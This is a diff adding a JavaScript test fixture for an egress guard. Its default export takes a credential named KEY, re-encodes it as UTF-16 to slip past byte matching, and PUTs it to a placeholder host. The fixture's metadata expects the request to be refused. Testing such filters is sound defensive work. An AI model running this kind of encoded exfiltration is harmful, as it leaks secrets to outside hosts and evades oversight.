@@ -1,0 +1,16 @@
+export const attempt = {
+  tries: "to send a value that it was given itself to another host in UTF-16",
+  refusedBecause: "requests are searched for it in both byte orders",
+  ends: { code: "egress_denied", message: "it would be sent the credential KEY" },
+  receipt: { host: "{other}", reason: "it would be sent the credential KEY" },
+  allowedHosts: ["http://{witness}", "http://{other}"],
+  keyHosts: ["http://{witness}"],
+  keyIsExposed: true,
+};
+
+export default async ({ other }, { credentials }) => {
+  const { KEY } = credentials;
+  const body = new Uint8Array(Array.from(KEY, (one) => [0, one.charCodeAt(0)]).flat());
+  await fetch(`http://${other}/reached`, { method: "PUT", body });
+  return "got through";
+};
